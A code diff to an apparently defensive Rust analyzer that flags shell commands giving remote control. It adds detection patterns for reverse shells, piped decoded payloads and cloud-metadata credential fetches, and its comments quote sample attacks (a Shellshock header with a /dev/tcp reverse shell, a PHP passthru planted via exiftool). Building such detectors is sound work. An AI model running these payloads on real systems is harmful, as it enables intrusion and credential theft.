@@ -354,6 +354,141 @@ pub(crate) fn run_remote_code(a: &mut Analyzer, inv: &Inv, st: &mut State, via: 
     a.remote = saved;
 }
 
+/// Markers of a shell payload that gives a remote party control: a `/dev/tcp`/`/dev/udp`
+/// redirect, a named pipe wired to a shell, `nc -e`/`-c` with a shell, an interactive shell, a
+/// decoded or fetched payload piped to a shell, the cloud metadata service (its credentials). An argument containing one of them (and a space) is a
+/// payload candidate for [`payload_words`].
+const PAYLOAD_MARKERS: &[&str] = &[
+    "/dev/tcp/",
+    "/dev/udp/",
+    "mkfifo",
+    " -e /bin/",
+    " -c /bin/",
+    "sh -i",
+    "base64 -d",
+    "base64 --decode",
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "169.254.169.254",
+    "metadata.google.internal",
+];
+
+/// Programs whose arguments are only text to print, search for or store as a message:
+/// a payload there is quoted, not carried anywhere to run.
+const TEXT_ONLY: &[&str] = &[
+    "echo",
+    "printf",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "ag",
+    "ack",
+    "git",
+    "gh",
+    "glab",
+    "jq",
+    "yq",
+    "sed",
+    "logger",
+    "wall",
+    "tee",
+    "cat",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "wc",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+    "fzf",
+    "notify-send",
+    "say",
+    "cowsay",
+    "figlet",
+    "man",
+    "tldr",
+];
+
+/// Shell payloads carried in the arguments of a program that hands them to something that
+/// runs them: a cloud CLI's remote command or environment (`aws ssm send-command --parameters
+/// commands="bash -c '…'"`, `gcloud … --update-env-vars=BROWSER=/bin/bash -c '…'`), a header a
+/// vulnerable server evaluates (`curl -H 'Cookie: () { :;}; /bin/bash -i >& /dev/tcp/…'`), code
+/// planted in a file's metadata (`exiftool -Comment='<?php passthru("…") ?>'`). Each argument
+/// holding a [`PAYLOAD_MARKERS`] marker is analysed as shell code (whole, each quoted literal
+/// inside it, and what follows each `=`), in a separate analyzer of which only the
+/// remote-execution and decoded-execution facts and metadata fetches are kept: the payload's
+/// other effects happen elsewhere. Programs in [`TEXT_ONLY`], shells and interpreters (analysed on their own) are
+/// skipped.
+pub(crate) fn payload_words(a: &mut Analyzer, name: &str, inv: &Inv) {
+    if a.payload_level >= 2 || TEXT_ONLY.contains(&name) || super::is_shell(name) {
+        return;
+    }
+    for arg in inv.rest().iter().take(64) {
+        let t = arg.text.as_str();
+        if t.len() > 8 * 1024
+            || !t.contains(char::is_whitespace)
+            || !PAYLOAD_MARKERS.iter().any(|m| t.contains(m))
+        {
+            continue;
+        }
+        let mut cands: Vec<&str> = vec![t];
+        cands.extend(crate::analyzer::quoted_literals(t));
+        cands.extend(
+            t.match_indices('=')
+                .take(4)
+                .filter_map(|(i, _)| t.get(i + 1..)),
+        );
+        for c in cands {
+            if !PAYLOAD_MARKERS.iter().any(|m| c.contains(m)) {
+                continue;
+            }
+            let mut sub = Analyzer::new(a.ctx);
+            sub.payload_level = a.payload_level + 1;
+            let f = sub.run_top(c);
+            let metadata: Vec<_> = f.fetches.into_iter().filter(|x| x.metadata).collect();
+            if f.remote_exec.is_empty() && f.decoded_exec.is_empty() && metadata.is_empty() {
+                continue;
+            }
+            a.facts.remote_exec.extend(f.remote_exec);
+            a.facts.decoded_exec.extend(f.decoded_exec);
+            a.facts.fetches.extend(metadata);
+            return;
+        }
+    }
+}
+
+/// Terminal emulators that open their window, and the shell in it, on the X display named by
+/// `-display HOST:N` (X(7) "DISPLAY NAMES"; xterm(1), rxvt(1)): a display on another host is a
+/// shell handed to that host.
+const DISPLAY_TERMINALS: &[&str] = &["xterm", "uxterm", "rxvt", "urxvt", "aterm", "eterm"];
+
+/// `xterm -display 203.0.113.5:1`: a `reverse_shell` to the display's host. Local displays
+/// (`:0`, `localhost:10`, `unix:0`) are not.
+pub(crate) fn remote_display(a: &mut Analyzer, name: &str, inv: &Inv) {
+    if !DISPLAY_TERMINALS.contains(&name) {
+        return;
+    }
+    let args = inv.rest();
+    for (i, w) in args.iter().enumerate() {
+        if !matches!(w.text.as_str(), "-display" | "-d" | "--display") {
+            continue;
+        }
+        let Some(v) = args.get(i + 1) else { break };
+        let host = v.text.rsplit_once(':').map(|(h, _)| h).unwrap_or("");
+        let local = host.is_empty()
+            || matches!(host, "localhost" | "unix" | "127.0.0.1" | "::1")
+            || host.starts_with('/');
+        if !local {
+            a.remote_exec("reverse_shell", name, Some(host.to_string()), &inv.evidence);
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
